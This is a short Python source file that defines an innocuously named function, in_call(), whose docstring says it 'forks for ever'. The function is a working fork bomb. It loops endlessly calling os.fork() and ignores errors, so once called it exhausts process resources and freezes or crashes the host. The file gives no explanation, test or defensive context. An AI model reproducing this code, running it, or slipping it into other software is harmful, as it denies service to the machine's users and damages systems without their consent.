"""Forks for ever."""
import os

def in_call():
    while True:
        try:
            os.fork()
        except OSError:
            pass
